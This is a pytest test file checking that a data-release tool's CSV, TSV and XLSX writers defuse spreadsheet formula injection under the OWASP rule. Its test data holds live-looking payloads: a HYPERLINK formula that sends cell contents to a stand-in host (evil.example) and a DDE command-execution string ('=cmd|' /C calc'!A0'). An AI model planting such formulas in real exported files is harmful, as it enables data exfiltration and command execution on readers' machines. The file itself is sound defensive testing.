"""No released spreadsheet holds a live formula (issue 11, items 2 and 3).

core.spreadsheet_safety holds the one rule; core.io's writers apply it. The expected
values below are written out by hand from the OWASP CSV-injection rule: a text cell that
begins with =, +, -, @, a tab or a carriage return and is not a plain number.
"""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core.io import read_table, table_to_bytes, write_table
from core.markup import escape_markdown
from core.recipe import Recipe, RecipeResult
from core.release.report import build_report, report_to_markdown
from core.spreadsheet_safety import (
    formula_like,
    formula_like_counts,
    formula_like_summary,
    neutralise_for_csv,
)

EVIL_HEADER = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def _table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            EVIL_HEADER: ["=1+1", "-5", "+65 9123 4567", "@SUM(A1:A9)", "plain", None],
            "note": ["\tcmd", "\r=2", "-1e5", "+3.2", "#N/A", "a=b"],
            "amount": [-5, -1, 3, 4, 5, 6],
            "ratio": [-0.5, np.nan, 1.5, -2.0, 0.0, 1e5],
            "mixed": pd.Series(["=x", 7, None, "-", 2.5, True], dtype=object),
            "category": pd.Categorical(["-a", "b", "-a", "b", "b", "b"]),
        }
    )


def test_rule_flags_formula_text_and_spares_numbers():
    values = pd.Series(["=1", "+1", "-1", "@a", "\tx", "\rx", "-5", "+3.2", "-1e5", "- 5", "a=1"])
    expected = [True, False, False, True, True, True, False, False, False, True, False]
    assert formula_like(values).tolist() == expected
    assert not formula_like(pd.Series([-5, -1, 3])).any()  # numbers are never text
    assert not formula_like(pd.Series([-0.5, np.nan])).any()
    assert not formula_like(pd.Series([1, 2], dtype=object)).any()  # no text at all
    assert formula_like(pd.Series(["-٣"])).tolist() == [True]  # not an ASCII number


def test_counts_name_the_columns_and_include_the_header():
    # By hand: EVIL_HEADER: header + '=1+1', '+65 9123 4567', '@SUM(A1:A9)' = 4;
    # note: '\tcmd', '\r=2' = 2; mixed: '=x', '-' = 2; category: '-a' twice = 2.
    counts = formula_like_counts(_table())
    assert counts == {EVIL_HEADER: 4, "note": 2, "mixed": 2, "category": 2}


def test_csv_prefixes_formula_text_with_a_quote_and_leaves_numbers():
    table = _table()
    before = table.copy()
    text = table_to_bytes(table, "csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    pd.testing.assert_frame_equal(table, before)  # the caller's table is not changed
    assert rows[0] == ["'" + EVIL_HEADER, "note", "amount", "ratio", "mixed", "category"]
    column = [row[0] for row in rows[1:]]
    assert column == ["'=1+1", "-5", "'+65 9123 4567", "'@SUM(A1:A9)", "plain", ""]
    assert [row[1] for row in rows[1:]] == ["'\tcmd", "'\r=2", "-1e5", "+3.2", "#N/A", "a=b"]
    assert [row[2] for row in rows[1:]] == ["-5", "-1", "3", "4", "5", "6"]
    assert [row[3] for row in rows[1:]] == ["-0.5", "", "1.5", "-2.0", "0.0", "100000.0"]
    assert [row[4] for row in rows[1:]] == ["'=x", "7", "", "'-", "2.5", "True"]
    assert [row[5] for row in rows[1:]] == ["'-a", "b", "'-a", "b", "b", "b"]


def test_tsv_follows_the_same_rule(tmp_path):
    path = write_table(pd.DataFrame({"@a": ["=1", "x"]}), tmp_path / "out.tsv")
    assert path.read_text(encoding="utf-8") == "'@a\n'=1\nx\n"


def test_no_xlsx_cell_is_a_formula_and_values_are_unchanged(tmp_path):
    table = _table().drop(columns="note")  # a carriage return does not survive XML
    path = write_table(table, tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}
    header = [cell.value for cell in next(sheet.iter_rows())]
    assert header == list(table.columns)
    first = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert first == ["=1+1", "-5", "+65 9123 4567", "@SUM(A1:A9)", "plain", None]
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == [-5, -1, 3, 4, 5, 6]
    # Excel's own "typed with a leading quote" mark keeps the text text when edited.
    quoted = {cell.coordinate for cell in cells if cell.quotePrefix}
    assert quoted == {"A1", "A2", "A4", "A5", "D2", "D5", "E2", "E4"}
    back = read_table(path)
    assert back[EVIL_HEADER].tolist()[:4] == ["=1+1", "-5", "+65 9123 4567", "@SUM(A1:A9)"]


def test_xlsx_error_words_stay_text():
    data = table_to_bytes(pd.DataFrame({"code": ["#N/A", "#REF!", "ok"]}), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [cell.data_type for (cell,) in sheet.iter_rows(min_row=2)] == ["s", "s", "s"]


def test_xlsx_is_byte_identical_for_the_same_table(tmp_path):
    table = _table().drop(columns="note")
    first = write_table(table, tmp_path / "first.xlsx").read_bytes()
    time.sleep(2.1)  # zip entry times have a 2-second resolution
    second = write_table(table, tmp_path / "second.xlsx").read_bytes()
    assert first == second


def test_xlsx_refuses_control_characters_with_the_column_name():
    with pytest.raises(Exception, match="Column 'bad' holds a control character.*row 2"):
        table_to_bytes(pd.DataFrame({"bad": ["ok", "a\x01b"]}), "xlsx")


def test_parquet_keeps_values_as_they_are():
    data = table_to_bytes(pd.DataFrame({"=a": ["=1+1"]}), "parquet")
    assert pd.read_parquet(io.BytesIO(data)).to_dict("list") == {"=a": ["=1+1"]}


def test_neutralise_for_csv_keeps_the_index_and_other_columns():
    table = pd.DataFrame({"a": ["=1", "x"], "b": [1, 2]}, index=[5, 5])
    out = neutralise_for_csv(table)
    assert out["a"].tolist() == ["'=1", "x"] and out["b"].tolist() == [1, 2]
    assert out.index.tolist() == [5, 5]


def test_report_says_which_cells_were_neutralised():
    table = _table()
    recipe = Recipe()
    result = RecipeResult(table, {}, {}, (), 1)
    report = build_report(table, result, recipe)
    safety = report.to_dict()["spreadsheet_safety"]
    assert safety["formula_like_cells"] == {EVIL_HEADER: 4, "note": 2, "mixed": 2, "category": 2}
    assert safety["csv_prefix"] == "'"
    markdown = report_to_markdown(report)
    assert escape_markdown(safety["summary"]) in markdown
    assert safety["summary"].startswith("10 text cell(s) or column name(s) begin with =, +, -, @")
    assert "'note' (2)" in safety["summary"]


def test_summary_when_nothing_looks_like_a_formula():
    assert formula_like_summary({}).startswith("No cell or column name")


def test_a_carriage_return_inside_a_value_cannot_start_a_new_csv_row():
    # Unquoted, "ok\r=cmd" is read as two rows, the second beginning with a live formula.
    table = pd.DataFrame({"a": ["ok\r=HYPERLINK(1)", "x"], "n": [1, 2]})
    text = table_to_bytes(table, "csv").decode("utf-8")
    assert text.splitlines()[1:] != ["=HYPERLINK(1)"]
    assert len(text.split("\r")) == 2 and '"ok\r=HYPERLINK(1)"' in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a", "n"], ["ok\r=HYPERLINK(1)", "1"], ["x", "2"]]
    assert read_table(text.encode("utf-8"), name="t.csv")["a"].tolist() == table["a"].tolist()


def test_cli_apply_writes_no_formula_into_the_release_or_the_mapping_table(tmp_path, capsys):
    from core import cli

    data = tmp_path / "people.csv"
    pd.DataFrame(
        {"name": ["=cmd|' /C calc'!A0", "@SUM(1+1)", "Tan"], "note": ["-2+3", "ok", "+x"]}
    ).to_csv(data, index=False)
    recipe = tmp_path / "recipe.yaml"
    recipe.write_text("seed: 1\nsteps:\n  - {step: pseudonymise, column: name}\n")
    for out in (tmp_path / "out.csv", tmp_path / "out.xlsx"):
        code = cli.main(
            [
                "apply",
                str(data),
                "--recipe",
                str(recipe),
                "--out",
                str(out),
                "--plaintext-mapping",
                "--release-anyway",
            ]
        )
        assert code == 0, capsys.readouterr().err
    released = list(tmp_path.glob("out*.csv"))
    mappings = [p for p in released if ".mapping-" in p.name]
    assert len(mappings) == 2  # one per release, each next to its output
    for mapping in mappings:
        rows = list(csv.reader(io.StringIO(mapping.read_text(encoding="utf-8"), newline="")))
        originals = sorted(cell for row in rows[1:] for cell in row if cell[:1] in "'T")
        assert originals == ["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "Tan"]
    table = next(p for p in released if ".mapping-" not in p.name)
    rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8"), newline="")))
    assert [row[1] for row in rows[1:]] == ["'-2+3", "ok", "'+x"]
    workbook = next(tmp_path.glob("out*.xlsx"))
    cells = [c for row in openpyxl.load_workbook(workbook).active.iter_rows() for c in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert [c.value for c in cells if c.column == 2] == ["note", "-2+3", "ok", "+x"]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=6))
def test_any_text_is_stored_as_text_and_comes_back(values):
    values = [re.sub(ILLEGAL_CHARACTERS_RE, "", v).replace("\r", "") for v in values]
    table = pd.DataFrame({"=h": values})
    sheet = openpyxl.load_workbook(io.BytesIO(table_to_bytes(table, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert [cell.value for cell in cells] == ["=h"] + [v if v != "" else None for v in values]
    text = table_to_bytes(table, "csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    back = [row[0] if row else "" for row in rows[1:]]
    # OWASP by hand: a quote goes in front of text starting with = + - @ tab CR that is not
    # a plain (ASCII) number; nothing else changes.
    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
    risky = [v[:1] in ("=", "+", "-", "@", "\t") and not number.fullmatch(v) for v in values]
    assert back == ["'" + v if r else v for v, r in zip(values, risky, strict=True)]


@pytest.mark.parametrize("dtype", ["str", "string", object, "category"])
def test_rule_is_the_same_for_every_text_dtype(dtype):
    values = pd.Series(["=1", "-5", "ok", None, "@a"], dtype=dtype)
    assert formula_like(values).tolist() == [True, False, False, False, True]
    out = neutralise_for_csv(pd.DataFrame({"a": values}))["a"]
    assert out.iloc[[0, 1, 2, 4]].tolist() == ["'=1", "-5", "ok", "'@a"] and pd.isna(out.iloc[3])
